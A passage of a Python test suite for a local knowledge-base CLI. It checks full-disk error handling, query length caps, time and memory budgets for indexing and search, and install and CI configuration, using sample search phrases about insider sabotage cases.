        assert code == 4 and len(error_lines(err)) == 1 and "Traceback" not in err, err
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert not (folder / "all.jsonl").exists() and not (folder / "all.json").exists()
    assert not [p for p in folder.rglob("*.tmp")]


@pytest.mark.parametrize("args", [["export", "--format", "iides"], ["export"], ["show", "i1", "--json"]],
                         ids=["iides", "jsonl", "show"])
def test_output_to_a_full_disk_is_one_error_line(kb_copy, args):
    with open("/dev/full", "w") as full:
        done = subprocess.run([sys.executable, "-m", "kb.cli", "--db", str(kb_copy), *args], stdout=full,
                              stderr=subprocess.PIPE, text=True, timeout=60)
    assert done.returncode == 4 and error_lines(done.stderr) == done.stderr.splitlines(), done.stderr
    assert "No space left on device" in done.stderr


def test_a_query_of_many_repeated_words_is_refused_by_its_word_count(base_db):
    """Not by SQLite ("Expression tree is too large"): the cap names itself; under it, one LIKE per
    distinct short Chinese word, however often it repeats."""
    result = kb(base_db, "search", "--mode", "keyword", "删库 " * 500)
    assert error_lines(result.output) == ["Error: query too long (500 words; at most 200)"]
    assert isinstance(KB(base_db, readonly=True).search("删库 " * 199, mode="keyword", k=5).hits, list)


# Budgets per input (README "Limits"): any document under the size caps is added, shown and
# compared in bounded time and memory; any query under the caps answers in bounded time.
# The figures asserted are loose (a loaded CI machine); bench/input_budget.py prints them.
BUDGET_SECONDS = 10.0
BUDGET_MB = 300
TERMS = ["an intern tampered with the training code", "the engineer deleted the production database",
         "a contractor stole source code", "前员工删库", "实习生篡改代码攻击模型训练", "the court sentenced him to 2 years"]


@pytest.mark.slow
@settings(max_examples=4, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(paragraphs=st.integers(1, 90_000), terms=st.lists(st.sampled_from(TERMS), min_size=1, max_size=4))
def test_any_document_under_the_caps_is_added_shown_and_compared_within_budget(tmp_path_factory, paragraphs, terms):
    folder = tmp_path_factory.mktemp("budget")
    text = "# A page of many paragraphs\n\n" + "\n\n".join(
        f"Paragraph {i}: {terms[i % len(terms)]}." for i in range(paragraphs))
    page = folder / "page.md"
    page.write_bytes(text.encode()[:4_900_000].decode(errors="ignore").encode())  # under the 5 MB cap
    db = str(folder / "kb.db")
    for args in (["add", str(page)], ["show", "d1", "--json"], ["similar", "d1"]):
        code, _, err, seconds, peak = run_kb("--db", db, *args, timeout=120)
        assert code == 0, err
        assert seconds < BUDGET_SECONDS and peak < BUDGET_MB, (args[0], page.stat().st_size, seconds, peak)


QUERY_WORDS = ["删库", "实习生", "篡改", "代码", "训练", "模型", "商业秘密", "intern", "sabotage", "deleted",
               "database", "source", "code", "stole", "logic", "bomb", "contractor", "wiped"]


@pytest.fixture(scope="module")
def query_worker(starter_db):
    """A process that answers one hybrid search per line of stdin with its seconds and how much its
    peak memory grew since it was warmed up (the model, index and dictionary loaded)."""
    code = ("import json, sys, time\nfrom kb import KB\n"
            f"kb = KB({str(starter_db)!r}, readonly=True)\nkb.search('warm up')\nkb.search('预热')\n"  # English, Chinese
            "def peak():\n"
            "    return int(next(l.split()[1] for l in open('/proc/self/status') if l.startswith('VmHWM')))\n"
            "base = peak()\n"
            "for line in sys.stdin:\n"
            "    t = time.perf_counter()\n"
            "    try:\n        kb.search(json.loads(line), k=10); error = None\n"
            "    except Exception as exc:\n        error = str(exc)\n"
            "    grown = (peak() - base) / 1024\n"
            "    print(json.dumps([time.perf_counter() - t, grown, error]), flush=True)\n")
    proc = subprocess.Popen([sys.executable, "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    yield proc
    proc.stdin.close()
    proc.wait(timeout=30)


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(words=st.lists(st.sampled_from(QUERY_WORDS), min_size=1, max_size=200), spaced=st.booleans())
def test_any_query_under_the_caps_answers_within_budget(query_worker, words, spaced):
    query = (" " if spaced else "").join(words)[:2000]
    query_worker.stdin.write(json.dumps(query) + "\n")
    query_worker.stdin.flush()
    seconds, grown, error = json.loads(query_worker.stdout.readline())
    assert error is None or "too long" in error, error
    assert seconds < 2.0 and grown < 100, (len(query), seconds, grown)


# --- install and CI -------------------------------------------------------------------------

def test_the_lxml_html_cleaner_is_declared():
    try:
        import tomllib
    except ImportError:  # Python 3.10
        import tomli as tomllib
    deps = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["dependencies"]
    assert any(re.match(r"lxml[_-]html[_-]clean\b|lxml\[[^]]*html_clean", d) for d in deps), deps
    import lxml.html.clean  # noqa: F401  (justext, under trafilatura, imports it)


def test_readme_says_how_to_get_kb_on_the_path():
    readme = (ROOT / "README.md").read_text()
    assert ". .venv/bin/activate" in readme and ".venv/bin/kb" in readme


def _make_plan(*args: str) -> str:
    return subprocess.run(["make", "-n", "-W", "pyproject.toml", "install", *args], cwd=ROOT,
                          capture_output=True, text=True, timeout=60).stdout


def test_torch_build_is_an_explicit_choice():
    if not shutil.which("make"):
        pytest.skip("make is not installed")
    assert "torch==2.13.0 --index-url https://download.pytorch.org/whl/cpu" in _make_plan()
    cuda = _make_plan("TORCH=cuda")
    assert "torch==2.13.0" in cuda and "--index-url" not in cuda
    assert "--index-url https://example.org/whl" in _make_plan("TORCH_INDEX=https://example.org/whl")


def test_ci_fails_when_the_browser_test_cannot_run(tmp_path):
    ci = (ROOT / ".ci" / "run").read_text()
    assert "KB_REQUIRE_BROWSER=1" in ci and "apt-get install -y chromium" in ci
    assert all("apt-get update" not in (ROOT / "tests" / name).read_text()
               for name in ("test_datasette.py", "conftest.py"))
    env = {**os.environ, "KB_REQUIRE_BROWSER": "1", "PATH": str(Path(sys.executable).parent)}
    done = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider",
                           "tests/test_datasette.py::test_browser_search"], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode != 0 and "required in CI" in done.stdout, done.stdout[-2000:]
    env.pop("KB_REQUIRE_BROWSER")
    done = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "-rs",
                           "tests/test_datasette.py::test_browser_search"], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0 and "1 skipped" in done.stdout, done.stdout[-2000:]
